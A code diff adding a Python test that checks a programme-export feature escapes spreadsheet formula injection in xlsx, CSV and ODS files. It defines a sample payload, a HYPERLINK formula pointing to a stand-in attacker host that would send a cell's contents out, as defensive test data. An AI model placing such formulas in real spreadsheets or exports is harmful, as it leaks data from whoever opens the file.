@@ -131,3 +131,33 @@ def test_control_characters_and_markup_do_not_break_the_files(prog_data, prog_or
     assert "Atelier <jeunes> & \"parents\"" in [r[_col("Action")] for r in sheet.iter_rows(values_only=True)]
     rows = _ods_rows(programme_file(data, "ods"))
     assert ("string", "Atelier <jeunes> & \"parents\"") in [r[_col("Action")] for r in rows]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Cliquez")'
+
+
+def test_typed_text_starting_like_a_formula_stays_text(prog_data, prog_orgs):
+    from quartiers.applications.models import Status
+    from quartiers.programme.exports import safe_text
+    from tests.programme.programme_helpers import make_application
+
+    prog_orgs[1].legal_name = "+33 Atelier"
+    prog_orgs[1].save()
+    make_application(prog_data["call"], prog_orgs[0], 9, Status.SUBMITTED, title=FORMULA,
+                     requests=[(prog_data["state"], "100")])
+    data = programme(prog_data["call"])
+
+    sheet = load_workbook(io.BytesIO(programme_file(data, "xlsx"))).active
+    cells = [row[_col("Action")] for row in sheet.iter_rows(min_row=2)]
+    cell = next(c for c in cells if c.value == FORMULA)
+    assert cell.data_type == "s"  # a string, not a live formula
+    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str))
+    assert sheet.cell(row=4, column=_col("Montant demandé") + 1).data_type == "n"  # numbers stay numbers
+
+    rows = list(csv.reader(io.StringIO(programme_file(data, "csv").decode("utf-8-sig")), delimiter=";"))
+    assert "'" + FORMULA in [r[_col("Action")] for r in rows]
+    assert "'+33 Atelier" in [r[_col("Structure")] for r in rows]
+    assert "30000,00" in [r[_col("Montant demandé")] for r in rows]  # amounts untouched
+
+    assert ("string", FORMULA) in [r[_col("Action")] for r in _ods_rows(programme_file(data, "ods"))]
+    assert [safe_text(t) for t in ("-1", "@x", "\tx", "\rx", "a=b", "")] == ["'-1", "'@x", "'\tx", "'\rx", "a=b", ""]
